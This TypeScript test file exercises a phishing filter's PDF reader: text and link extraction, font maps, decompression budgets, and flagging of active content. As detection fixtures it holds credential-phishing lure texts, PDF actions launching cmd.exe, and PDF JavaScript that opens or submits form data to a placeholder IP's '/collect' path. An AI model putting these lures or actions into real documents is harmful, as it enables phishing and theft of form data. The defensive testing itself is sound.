import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { parseConfig } from '../../../../src/config/load.ts';
import { decodeShown, parseToUnicode } from '../../../../src/filter/phishing/attachments/pdf-cmap.ts';
import { pdfBudget, readPdf } from '../../../../src/filter/phishing/attachments/pdf-content.ts';
import { scanMessage, scanSettings } from '../../../../src/filter/phishing/scan.ts';
import { Random } from '../../../support/fuzz-input.ts';

/** A PDF of numbered objects, each a dictionary and, when given, stream data (ISO 32000-1 §7.5). */
function pdf(objects: { dict: string; stream?: Buffer | string }[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  objects.forEach((o, i) => {
    parts.push(Buffer.from(`${i + 1} 0 obj\n${o.dict}\n`, 'latin1'));
    if (o.stream !== undefined) {
      parts.push(Buffer.from('stream\n'), Buffer.from(o.stream as string | Buffer), Buffer.from('\nendstream\n'));
    }
    parts.push(Buffer.from('endobj\n'));
  });
  parts.push(Buffer.from('trailer\n<< /Root 1 0 R >>\n%%EOF\n'));
  return Buffer.concat(parts);
}

const page = (content: string, filter = '') => [
  { dict: '<< /Type /Catalog /Pages 2 0 R >>' },
  { dict: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
  { dict: '<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>' },
  filter === ''
    ? { dict: `<< /Length ${content.length} >>`, stream: content }
    : { dict: `<< /Filter /FlateDecode >>`, stream: deflateSync(Buffer.from(content, 'latin1')) },
];

test('text of Tj, TJ, \' and " operators, a line per text line; strings with escapes, octal codes and nested parentheses', () => {
  const content = [
    'BT /F1 12 Tf 72 700 Td (Your account \\(ID 42\\) is locked) Tj',
    'T* [(Ver) -20 (ify) 15 ( now)] TJ',
    "(next line) '",
    '0 0 (and \\101\\102C\\\nD) "',
    '% a comment (not shown) Tj',
    'T* <48656C6C6F> Tj',
    'T* (an unknown escape \\q keeps its q) Tj',
    'ET',
  ].join('\n');
  const text =
    'Your account (ID 42) is locked\nVerify now\nnext line\nand ABCD\nHello\nan unknown escape q keeps its q';
  assert.deepEqual(readPdf(pdf(page(content))), { text, links: [] });
  assert.deepEqual(readPdf(pdf(page(content, 'flate'))), { text, links: [] }, 'the same, FlateDecode-compressed');
});

test('marked content (tagged PDFs, as word processors write them) and inline dictionaries do not stop the reading', () => {
  const content =
    '/P <</MCID 0 >>BDC BT /F1 12 Tf (Invoice overdue) Tj ET EMC\n/Span <</ActualText <FEFF> >> BDC BT (pay today) Tj ET EMC';
  assert.deepEqual(readPdf(pdf(page(content, 'flate'))), { text: 'Invoice overdue\npay today', links: [] });
});

test('link targets of URI actions, in plain objects and in a compressed object stream, once each', () => {
  const annotation = '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://192.0.2.7/login) >> >>';
  const objects = [
    ...page('BT (Open the document) Tj ET'),
    { dict: annotation },
    {
      dict: '<< /Type /ObjStm /Filter /FlateDecode >>',
      stream: deflateSync(`<< /URI <not hex> >> ${annotation} << /URI <68747470733A2F2F782E6578616D706C652F> >>`),
    },
  ];
  assert.deepEqual(readPdf(pdf(objects)), {
    text: 'Open the document',
    links: ['http://192.0.2.7/login', 'https://x.example/'],
  });
});

test('object streams: a link string kept in one, and actions behind a nested dictionary or after a long page', () => {
  const catalog = { dict: '<< /Type /Catalog /OpenAction 6 0 R >>' };
  // The URI action's string is object 5, which sits in an object stream (§7.5.7): looked up by number.
  const indirect = pdf([
    catalog,
    { dict: '<< /Type /Annot /Subtype /Link /A << /S /URI /URI 5 0 R >> >>' },
    objectStream(5, ['(http://192.0.2.9/verify)', '<< /S /JavaScript /JS (app.alert(1)) >>']),
  ]);
  assert.deepEqual(readPdf(indirect), { text: '', links: ['http://192.0.2.9/verify'], active: 'javascript' });
  // A dictionary nested in the stream's own (/DecodeParms, or any key) once hid its /Filter.
  const nested = objectStream(6, ['<< /S /Launch /F (cmd.exe) >>', '<< /S /URI /URI (http://192.0.2.10/) >>']);
  nested.dict = nested.dict.replace('>>', '/DecodeParms << /Columns 1 >> >>');
  assert.deepEqual(readPdf(pdf([catalog, nested])), { text: '', links: ['http://192.0.2.10/'], active: 'launch' });
  // A page of 1.1 MB before the object stream once spent the file's budget before the action was seen.
  const padded = pdf([
    catalog,
    { dict: '<< /Filter /FlateDecode >>', stream: deflateSync(`BT (Invoice) Tj ET ${' '.repeat(1_100_000)}`) },
    objectStream(6, ['<< /S /Launch /F (cmd.exe) >>']),
  ]);
  assert.equal(readPdf(padded).active, 'launch');
});

test('object streams are bounded: decoy types, a missing endstream, and many objects of one number', () => {
  const decoys = Buffer.from(`%PDF-1.7\n${'/Type /ObjStm '.repeat(400_000)}stream\n`, 'latin1');
  let started = performance.now();
  assert.deepEqual(readPdf(decoys), { text: '', links: [] });
  assert.ok(performance.now() - started < 2000, `${performance.now() - started} ms for 400,000 decoy types`);
  const same = Array.from({ length: 20_000 }, () => ({ dict: '(http://decoy.example/)' }));
  const file = Buffer.from(
    `%PDF-1.7\n${same.map((o) => `5 0 obj ${o.dict} endobj`).join('\n')}\n<< /S /URI /URI 5 0 R >>`,
    'latin1',
  );
  started = performance.now();
  assert.deepEqual(readPdf(file).links, ['http://decoy.example/']);
  assert.ok(performance.now() - started < 2000);
});

test('what is not text: images, other filters, two-byte codes; a file that is not a PDF', () => {
  const objects = [
    ...page('BT <00410042> Tj (shown) Tj ET'),
    { dict: '<< /Subtype /Image /Filter /FlateDecode >>', stream: deflateSync('BT (in an image) Tj ET') },
    { dict: '<< /Filter /ASCIIHexDecode >>', stream: '425420286865782920546A204554>' },
  ];
  assert.deepEqual(readPdf(pdf(objects)), { text: 'shown', links: [] });
  assert.deepEqual(readPdf(Buffer.from('BT (not a pdf) Tj ET')), { text: '', links: [] });
});

test('a stream that inflates and then fails spends the budget; a cut stream gives what it inflated', () => {
  // ~1 MB of spaces whose Adler-32 is cut off: it inflated nearly a megabyte before failing, and 500
  // of them took ~1 MB of work each while the budget stayed whole.
  const cut = deflateSync(Buffer.alloc(990_000, 0x20)).subarray(0, -4);
  const many = Array.from({ length: 20 }, () => ({ dict: '<< /Filter /FlateDecode >>', stream: cut }));
  const read = readPdf(pdf([...many, ...page('BT (after) Tj ET')]));
  assert.equal(read.text, '', 'the first cut stream spent the budget');
  const short = deflateSync('BT (the lure, cut short) Tj ET').subarray(0, -4);
  assert.equal(readPdf(pdf([{ dict: '<< /Filter /FlateDecode >>', stream: short }])).text, 'the lure, cut short');
  const corrupt = Buffer.concat([deflateSync(Buffer.alloc(500_000, 0x20)).subarray(0, -20), Buffer.from('garbage!')]);
  assert.equal(
    readPdf(pdf([{ dict: '<< /Filter /FlateDecode >>', stream: corrupt }, ...page('BT (later) Tj ET')])).text,
    '',
  );
});

test('the PDFs of one message share a budget: 2 MB of stream data in all, 1 MB each at most', () => {
  const big = (word: string) =>
    pdf([{ dict: '<< /Filter /FlateDecode >>', stream: deflateSync(`BT (${word}) Tj ET ${' '.repeat(600_000)}`) }]);
  const shared = pdfBudget();
  assert.equal(readPdf(big('one'), shared).text, 'one');
  assert.equal(readPdf(big('two'), shared).text, 'two');
  assert.equal(readPdf(big('three'), shared).text, 'three');
  assert.ok(shared.bytes < 600_000, `${shared.bytes} left after three 600 KB streams`);
  assert.equal(readPdf(big('four'), shared).text, '', 'the message has spent its budget');
  assert.equal(readPdf(big('alone')).text, 'alone', 'a file read alone has its own');
});

test('bounded and total: a deflate bomb is cut at the budget, and random or cut input never throws', () => {
  const bomb = deflateSync(Buffer.alloc(50_000_000, 0x20));
  const started = performance.now();
  const read = readPdf(pdf([{ dict: '<< /Filter /FlateDecode >>', stream: bomb }, ...page('BT (after) Tj ET')]));
  assert.ok(performance.now() - started < 2000);
  assert.equal(read.text, '', 'the budget went on the bomb');
  // 500 stream keywords after 9 MB without a dictionary: a backward search per keyword took 2 s here.
  const keywords = Buffer.from(`%PDF-1.7\n${'x'.repeat(9_000_000)}${'stream\nendstream\n'.repeat(500)}`, 'latin1');
  const scanned = performance.now();
  assert.deepEqual(readPdf(keywords), { text: '', links: [] });
  assert.ok(performance.now() - scanned < 1000, 'stream keywords far from any dictionary: one pass');
  const unterminated = Buffer.from(`%PDF-1.7\n${'/URI ('.repeat(100_000)}${'/URI <'.repeat(100_000)}`, 'latin1');
  const opened = performance.now();
  assert.deepEqual(readPdf(unterminated), { text: '', links: [] });
  assert.ok(performance.now() - opened < 1000, 'unterminated link strings: one pass');
  const whole = pdf(page('BT (Pay now: http://198.51.100.9/pay) Tj ET', 'flate'));
  const random = new Random(7);
  for (let round = 0; round < 500; round++) {
    const bytes = Buffer.from(whole.subarray(0, random.int(whole.length + 1)));
    for (let edits = random.int(4); edits > 0; edits--) bytes[random.int(bytes.length)] = random.int(256);
    readPdf(bytes);
  }
});

test("the detector reads a PDF lure: its words and its links count as the body's", async () => {
  const lure = pdf(
    page(
      'BT (Your mailbox is full. Verify your password within 24 hours:) Tj T* (http://203.0.113.5/verify) Tj ET',
      'flate',
    ),
  );
  const message = Buffer.from(
    'From: IT Desk <desk@helpdesk-mail.example>\r\nTo: alice@example.com\r\nSubject: Document\r\n' +
      'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n' +
      '--b\r\nContent-Type: text/plain\r\n\r\nPlease see the attached document.\r\n' +
      `--b\r\nContent-Type: application/pdf; name=notice.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n${lure.toString('base64')}\r\n--b--\r\n`,
  );
  const config = parseConfig({ domains: ['example.com'] }, 'test');
  const settings = scanSettings({ filter: config.filter, localDomains: config.domains, authservId: 'mx.example.com' });
  const report = await scanMessage(message, settings);
  const names = report.signals.map((s) => s.name);
  assert.ok(names.includes('ip-literal-link'), names.join(', '));
  assert.ok(names.includes('credential-request') || names.includes('urgency'), names.join(', '));
  const plain = Buffer.from(message.toString().replace(/--b\r\nContent-Type: application\/pdf[\s\S]*?(?=--b--)/, ''));
  const without = await scanMessage(plain, settings);
  assert.ok(report.score > without.score, `${report.score} with the PDF, ${without.score} without`);
});

test('interop: a PDF that Ghostscript writes (Debian ghostscript, ps2pdf) gives its text and its link', (t) => {
  const dir = mkdtempSync(path.join(tmpdir(), 'postern-pdf-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  // PostScript with a pdfmark link annotation; pdfwrite compresses the page and embeds the font.
  const ps = [
    '%!PS',
    '/Helvetica findfont 14 scalefont setfont',
    '72 720 moveto (Your mailbox is full. Verify your password within 24 hours.) show',
    '72 700 moveto (Click here to keep your account active) show',
    '[ /Rect [72 690 400 715] /Border [0 0 0] /Action << /Subtype /URI /URI (http://203.0.113.5/verify) >> /Subtype /Link /ANN pdfmark',
    'showpage',
  ].join('\n');
  writeFileSync(path.join(dir, 'lure.ps'), ps);
  // A missing ps2pdf fails here: .ci/run installs ghostscript.
  execFileSync('ps2pdf', ['lure.ps', 'lure.pdf'], { cwd: dir, timeout: 30_000 });
  const written = readFileSync(path.join(dir, 'lure.pdf'));
  assert.match(written.toString('latin1'), /\/FlateDecode/, 'Ghostscript compressed the page');
  assert.deepEqual(readPdf(written), {
    text: 'Your mailbox is full. Verify your password within 24 hours.\nClick here to keep your account active',
    links: ['http://203.0.113.5/verify'],
  });
});

/** A ToUnicode CMap program (ISO 32000-1 §9.10.3) with the given codespace and mapping sections. */
const cmapProgram = (codespace: string, body: string) =>
  `/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /Adobe-Identity-UCS def\n` +
  `1 begincodespacerange ${codespace} endcodespacerange\n${body}\nendcmap CMapName currentdict /CMap defineresource pop end end`;

/** UTF-16BE hex of a text, as CMaps write destinations. */
const u16 = (text: string) => Buffer.from(text, 'utf16le').swap16().toString('hex');

test('ToUnicode maps: bfchar, both bfrange forms, surrogate pairs; unmapped codes read as nothing', () => {
  const cmap = parseToUnicode(
    cmapProgram(
      '<0000> <ffff>',
      `2 beginbfchar <0001> <${u16('С')}> <0002> <${u16('😀')}> endbfchar\n` +
        `2 beginbfrange <0010> <0012> <${u16('а')}> <0020> <0021> [<${u16('ф')}> <${u16('fi')}>] endbfrange`,
    ),
  );
  assert.ok(cmap);
  assert.deepEqual(cmap.lengths, [2]);
  const codes = (...values: number[]) => Buffer.from(values.flatMap((v) => [v >> 8, v & 0xff])).toString('latin1');
  assert.equal(decodeShown(cmap, codes(0x01, 0x10, 0x11, 0x12, 0x02, 0x20, 0x21)), 'Сабв😀фfi');
  assert.equal(decodeShown(cmap, codes(0x01, 0x99, 0x01)), 'СС', 'an unmapped code is skipped, not guessed');
  assert.equal(parseToUnicode('no cmap here'), undefined);
  // The binary search over ranges agrees with a plain scan, on many random ranges.
  const ranges: string[] = [];
  const expected = new Map<number, string>();
  for (let first = 0x100, i = 0; i < 500; i++, first += 7) {
    ranges.push(
      `<${first.toString(16).padStart(4, '0')}> <${(first + 3).toString(16).padStart(4, '0')}> <${u16('A')}>`,
    );
    for (let k = 0; k < 4; k++) expected.set(first + k, String.fromCharCode(0x41 + k));
  }
  const many = parseToUnicode(cmapProgram('<0000> <ffff>', `500 beginbfrange ${ranges.join('\n')} endbfrange`));
  assert.ok(many);
  for (let code = 0xf0; code < 0x100 + 7 * 500 + 10; code++) {
    assert.equal(decodeShown(many, codes(code)), expected.get(code) ?? '', code.toString(16));
  }
});

/** A compressed object stream (§7.5.7) holding the given objects, numbered from `first`. */
function objectStream(first: number, bodies: string[]): { dict: string; stream: Buffer } {
  const offsets: string[] = [];
  let at = 0;
  for (const [i, body] of bodies.entries()) {
    offsets.push(`${first + i} ${at}`);
    at += body.length + 1;
  }
  const header = `${offsets.join(' ')}\n`;
  return {
    dict: `<< /Type /ObjStm /N ${bodies.length} /First ${header.length} /Filter /FlateDecode >>`,
    stream: deflateSync(header + bodies.join('\n')),
  };
}

/** Two pages: each names its font /F1, but they are different fonts with different maps (§7.8.3). */
function cyrillicPdf(): Buffer {
  const cmapA = cmapProgram(
    '<0000> <ffff>',
    `3 beginbfchar <0001> <${u16('П')}> <0002> <${u16('а')}> <0003> <${u16('р')}> endbfchar`,
  );
  const cmapB = cmapProgram('<0000> <ffff>', `1 beginbfrange <0001> <0003> <${u16('о')}> endbfrange`);
  return pdf([
    { dict: '<< /Type /Catalog /Pages 2 0 R >>' },
    { dict: '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>' },
    { dict: '<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Resources << /Font << /F1 7 0 R >> >> >>' },
    { dict: '<< /Type /Page /Parent 2 0 R /Contents [6 0 R] /Resources 21 0 R >>' },
    {
      dict: '<< /Filter /FlateDecode >>',
      stream: deflateSync('BT /F1 12 Tf 72 700 Td [<0001>-20<00020003>]TJ 40 0 Td <0002> Tj 0 -14 Td <0003> Tj ET'),
    },
    { dict: '<< /Filter /FlateDecode >>', stream: deflateSync('BT /F1 12 Tf <000100020003> Tj ET') },
    { dict: '<< /Type /Font /Subtype /Type0 /Encoding /Identity-H /ToUnicode 8 0 R >>' },
    { dict: '<< /Filter /FlateDecode >>', stream: deflateSync(cmapA) },
    { dict: `<< /Length ${cmapB.length} >>`, stream: cmapB },
    // The second font and the second page's resources live in object streams, as Word writes them.
    objectStream(20, ['<< /Type /Font /Subtype /Type0 /Encoding /Identity-H /ToUnicode 9 0 R >>']),
    objectStream(21, ['<< /Font << /F1 20 0 R >> >>']),
  ]);
}

test('composite fonts: two-byte codes read through the ToUnicode map of the font each page names', () => {
  assert.equal(readPdf(cyrillicPdf()).text, 'Пар а\nр\nопр');
});

test('bounded: 60,000 object headers without endobj, and a hostile map, cost one pass', () => {
  const headers = Buffer.from(
    `%PDF-1.7\n/ToUnicode${' 1 0 obj << /Type /Font /ToUnicode 2 0 R >>'.repeat(60_000)}`,
    'latin1',
  );
  const started = performance.now();
  assert.deepEqual(readPdf(headers), { text: '', links: [] });
  assert.ok(performance.now() - started < 1500, `${performance.now() - started} ms`);
  // 30,000 ranges (20,000 are kept) and 40,000 codes shown: a scan of the ranges per code would take minutes.
  const ranges = Array.from({ length: 30_000 }, (_, i) => {
    const code = (2 * i).toString(16).padStart(4, '0');
    return `<${code}> <${code}> <${u16('ж')}>`;
  });
  const map = cmapProgram('<0000> <ffff>', `30000 beginbfrange ${ranges.join(' ')} endbfrange`);
  const shown = Buffer.alloc(80_000);
  for (let i = 0; i < 40_000; i++) shown.writeUInt16BE((2 * i) % 40_000, 2 * i);
  const hostile = pdf([
    { dict: '<< /Type /Page /Contents 2 0 R /Resources << /Font << /F1 3 0 R >> >> >>' },
    { dict: '<< /Filter /FlateDecode >>', stream: deflateSync(`BT /F1 1 Tf <${shown.toString('hex')}> Tj ET`) },
    { dict: '<< /Type /Font /Subtype /Type0 /ToUnicode 4 0 R >>' },
    { dict: '<< /Filter /FlateDecode >>', stream: deflateSync(map) },
  ]);
  const decoding = performance.now();
  assert.equal(readPdf(hostile).text, 'ж'.repeat(40_000));
  assert.ok(performance.now() - decoding < 1500, `${performance.now() - decoding} ms`);
});

test('interop: a Cyrillic lure that cairo writes (Debian pango1.0-tools, pango-view) reads as its text', (t) => {
  const dir = mkdtempSync(path.join(tmpdir(), 'postern-pdf-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const lines = ['Ваш аккаунт будет заблокирован.', 'Срочно подтвердите пароль.', 'Your account will be suspended.'];
  writeFileSync(path.join(dir, 'lure.txt'), lines.join('\n'));
  // A missing pango-view fails here: .ci/run installs pango1.0-tools and fonts-dejavu-core.
  execFileSync('pango-view', ['-q', '--font=DejaVu Sans 14', '--output=lure.pdf', 'lure.txt'], {
    cwd: dir,
    timeout: 30_000,
  });
  const written = readFileSync(path.join(dir, 'lure.pdf'));
  assert.match(written.toString('latin1'), /\/Identity-H/, 'cairo wrote a composite font');
  assert.equal(readPdf(written).text, lines.join('\n'));
  // Ghostscript rewriting the same file (other object layout, a word per Td) still reads word for word.
  execFileSync('gs', ['-q', '-dNOPAUSE', '-dBATCH', '-sDEVICE=pdfwrite', '-sOutputFile=again.pdf', 'lure.pdf'], {
    cwd: dir,
    timeout: 30_000,
  });
  const again = readPdf(readFileSync(path.join(dir, 'again.pdf'))).text;
  for (const word of ['заблокирован', 'Срочно', 'подтвердите', 'пароль', 'suspended'])
    assert.ok(again.includes(word), again);
});

test('the detector reads a Russian lure in a composite-font PDF: its words count as the body would', async (t) => {
  const dir = mkdtempSync(path.join(tmpdir(), 'postern-pdf-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  writeFileSync(
    path.join(dir, 'lure.txt'),
    'Ваш аккаунт будет заблокирован в течение 24 часов.\nСрочно подтвердите пароль.',
  );
  execFileSync('pango-view', ['-q', '--font=DejaVu Sans 14', '--output=lure.pdf', 'lure.txt'], {
    cwd: dir,
    timeout: 30_000,
  });
  const lure = readFileSync(path.join(dir, 'lure.pdf'));
  const message = (attachment: Buffer | undefined) =>
    Buffer.from(
      'From: Служба поддержки <support@helpdesk-mail.example>\r\nTo: alice@example.com\r\nSubject: Document\r\n' +
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n' +
        '--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee the attachment.\r\n' +
        (attachment
          ? `--b\r\nContent-Type: application/pdf; name=notice.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n${attachment.toString('base64')}\r\n`
          : '') +
        '--b--\r\n',
    );
  const config = parseConfig({ domains: ['example.com'] }, 'test');
  const settings = scanSettings({ filter: config.filter, localDomains: config.domains, authservId: 'mx.example.com' });
  const report = await scanMessage(message(lure), settings);
  const without = await scanMessage(message(undefined), settings);
  const names = report.signals.map((s) => s.name);
  assert.ok(names.includes('credential-request') || names.includes('urgency'), names.join(', '));
  assert.ok(report.score > without.score, `${report.score} with the PDF, ${without.score} without`);
});

test('bounded: ToUnicode maps count against the 1 MB of stream data, plain ones as inflated ones', () => {
  // Two plain maps of 600 KB each: the first is read, the second would pass the budget and is not.
  const map = (char: string) =>
    cmapProgram('<0000> <ffff>', `1 beginbfchar${' '.repeat(600_000)}<0001> <${u16(char)}> endbfchar`);
  const [a, b] = [map('ж'), map('ф')];
  const read = readPdf(
    pdf([
      { dict: '<< /Type /Page /Contents 2 0 R /Resources << /Font << /F1 3 0 R /F2 4 0 R >> >> >>' },
      { dict: '<< /Filter /FlateDecode >>', stream: deflateSync('BT /F1 1 Tf <0001> Tj T* /F2 1 Tf <0001> Tj ET') },
      { dict: '<< /Type /Font /Subtype /Type0 /ToUnicode 5 0 R >>' },
      { dict: '<< /Type /Font /Subtype /Type0 /ToUnicode 6 0 R >>' },
      { dict: `<< /Length ${a.length} >>`, stream: a },
      { dict: `<< /Length ${b.length} >>`, stream: b },
    ]),
  );
  assert.equal(read.text, 'ж', 'the second map is past the budget: its codes are not guessed');
});

/** A one-page fillable form (ISO 32000-1 §12.7) whose text field carries `actions`, its /AA dictionary (§12.6.3). */
function form(actions: string, catalogExtra = '', extra: { dict: string }[] = []): Buffer {
  return pdf([
    { dict: `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> ${catalogExtra} >>` },
    { dict: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { dict: '<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>' },
    { dict: `<< /FT /Tx /T (Amount) /Subtype /Widget /AA << ${actions} >> >>` },
    ...extra,
  ]);
}

const js = (script: string) => `<< /S /JavaScript /JS (${script.replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>`;

test("a fillable form's field formatting (Acrobat's AF* functions only) is not active; any other script is", () => {
  // The audit's W-9 form, as sent: a number field formatted and checked on each keystroke.
  const w9 = Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/Annots[4 0 R]>>endobj\n4 0 obj<</FT/Tx/T(Amount)/Subtype/Widget/AA<</F<</S/JavaScript/JS(AFNumber_Format\\(2, 0, 0, 0, "", true\\);)>>/K<</S/JavaScript/JS(AFNumber_Keystroke\\(2, 0, 0, 0, "", true\\);)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
    'latin1',
  );
  assert.equal(readPdf(w9).active, undefined);
  const inert = [
    `/F ${js('AFDate_FormatEx("mm/dd/yyyy");')} /K ${js("AFDate_KeystrokeEx('mm/dd/yyyy')")}`,
    `/C ${js('AFSimple_Calculate("SUM", new Array ("Qty", "Price"));')} /V ${js('AFRange_Validate(true, 0, true, 100);')}`,
    `/F ${js('AFPercent_Format(2, 0);\nAFSpecial_Format(0)')} /K ${js('AFSpecial_Keystroke(3);')}`,
    '/F << /S /JavaScript /JS <41464E756D6265725F466F726D617428322C20302C20302C20302C2022222C2074727565293B> >>', // hex
    '/F 5 0 R', // the action an object of its own, its script a string object (§7.3.10) too
  ];
  const action = { dict: '<< /S /JavaScript /JS 6 0 R >>' };
  const script = { dict: '(AFNumber_Format\\(0, 1, 0, 0, "\\u20ac", false\\);)' };
  for (const actions of inert) assert.equal(readPdf(form(actions, '', [action, script])).active, undefined, actions);

  const active = [
    js('app.launchURL("http://192.0.2.5/w9", true);'),
    js('this.submitForm("http://192.0.2.5/collect");'),
    js('AFNumber_Format(2, 0, 0, 0, "", true); util.printd("yyyy", new Date());'),
    js('AFNumber_Format(2, 0, 0, 0, app.launchURL("http://192.0.2.5/"), true);'), // a call as an argument
    js('AFNumber_Format = function () { app.launchURL("http://192.0.2.5/"); }; AFNumber_Format();'),
    js('AFNumber_Format(2, 0, 0, 0, "", true); // trailing code hides nothing'),
    js('AFNotReal_Format(2);'),
    '<< /S /JavaScript /JS 7 0 R >>', // a script in a stream (not read)
    '<< /S /JavaScript /JS <not hex> >>',
  ].map((a) => `/F ${a}`);
  const stream = { dict: '<< /Length 9 >>' };
  for (const actions of active) {
    const got = readPdf(form(actions, '', [action, script, stream])).active;
    assert.equal(got, 'javascript', actions);
  }
  // Run on opening, or as a document-level script: active whatever it calls.
  const formatting = js('AFNumber_Format(2, 0, 0, 0, "", true);');
  const onOpen = [
    form('', `/OpenAction ${formatting}`),
    form('', '/OpenAction 5 0 R', [{ dict: formatting }]),
    form('', '/Names << /JavaScript 5 0 R >>', [{ dict: `<< /Names [(init) 6 0 R] >>` }, { dict: formatting }]),
  ];
  for (const file of onOpen) assert.equal(readPdf(file).active, 'javascript');
  assert.equal(readPdf(form(`/F ${formatting}`, '/OpenAction << /S /Launch /F (cmd.exe) >>')).active, 'launch');
});
